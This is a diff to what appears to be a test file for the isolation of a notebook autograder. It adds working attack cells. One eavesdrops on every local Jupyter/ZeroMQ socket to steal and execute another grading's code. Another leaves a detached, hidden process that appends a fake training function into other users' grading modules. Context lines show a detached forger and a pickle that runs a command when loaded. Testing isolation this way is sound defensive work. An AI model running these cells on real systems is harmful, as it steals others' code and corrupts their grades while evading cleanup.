@@ -352,6 +352,82 @@ DETACHED_FORGER = f"""
     subprocess.Popen([sys.executable, "-c", forger], start_new_session=True,
                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 """
+# Cells that attack the grading graded beside them (-j 2) or after them by the same user (-j 1): see
+# tests/test_isolation.py, which grades them through `python build.py grade` as a course would.
+EAVESDROP = """
+    # subscribe to every Jupyter socket in reach (TCP ports that listen, Unix sockets under /tmp, /run,
+    # /dev/shm) and take the code another grading's kernel runs from what it broadcasts
+    import glob, json, os, stat, time, zmq
+    context, sockets, endpoints, heard, taken = zmq.Context(), [], set(), 0, {}
+    deadline = time.time() + 90
+    while time.time() < deadline and "def atom_features" not in "".join(taken.values()):
+        found = set()
+        for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+            try:
+                for line in open(table).read().splitlines()[1:]:
+                    fields = line.split()
+                    if fields[3] == "0A":
+                        found.add("tcp://127.0.0.1:%d" % int(fields[1].rsplit(":", 1)[1], 16))
+            except OSError:
+                pass
+        for path in glob.glob("/tmp/**", recursive=True) + glob.glob("/run/**", recursive=True) + glob.glob("/dev/shm/*"):
+            try:
+                if stat.S_ISSOCK(os.stat(path).st_mode):
+                    found.add("ipc://" + path)
+            except OSError:
+                pass
+        for endpoint in found - endpoints:
+            endpoints.add(endpoint)
+            sub = context.socket(zmq.SUB)
+            sub.setsockopt(zmq.LINGER, 0)
+            sub.setsockopt(zmq.SUBSCRIBE, b"")
+            try:
+                sub.connect(endpoint)
+                sockets.append(sub)
+            except zmq.ZMQError:
+                pass
+        for sub in sockets:
+            while sub.poll(0):
+                heard += 1
+                for frame in sub.recv_multipart():
+                    try:
+                        content = json.loads(frame)
+                    except ValueError:
+                        continue
+                    if isinstance(content, dict) and isinstance(content.get("code"), str):
+                        taken[content["code"]] = content["code"]
+        time.sleep(0.5)
+    print(f"EAVESDROP: heard {heard} messages from {len(endpoints)} endpoints, took {len(taken)} cells")
+    for code in taken.values():
+        if code.startswith(("def ", "class ")):
+            try:
+                exec(code, globals())
+            except Exception:
+                pass
+"""
+SURVIVOR_MARKER = "/tmp/cgcnn-isolation-survivor"
+SURVIVOR = f"""
+    # a process that outlives the grading unseen: its main thread exits (state Z) while another thread
+    # lives on and plants an untrained fit() in the support module of the next grading of this user
+    import ctypes, glob, os, threading, time
+    if os.fork() == 0:
+        os.setsid()
+        def plant():
+            for _ in range(1200):
+                open("{SURVIVOR_MARKER}", "a").write(f"{{time.time()}}\\n")
+                for path in glob.glob("/tmp/cgcnn-grading-*/work/cgcnn_utils.py") + glob.glob("/tmp/*/work/cgcnn_utils.py"):
+                    try:
+                        with open(path, "a") as f:
+                            f.write("\\ndef fit(model, *args, **kwargs):\\n    return {{'train_loss': [1.0], "
+                                    "'train_mae': [1.0], 'val_mae': [1.0], 'seconds': 0.0}}\\n")
+                    except OSError:
+                        pass
+                time.sleep(0.25)
+        threading.Thread(target=plant).start()
+        ctypes.CDLL(None).pthread_exit(None)
+    time.sleep(1)
+    print("SURVIVOR: started")
+"""
 PICKLE_MARKER = "/tmp/cgcnn-catalogue-unpickled"
 SEND_PICKLES = f"""
     # a pickle that runs a command when loaded: sent to every local port that listens (otter's log
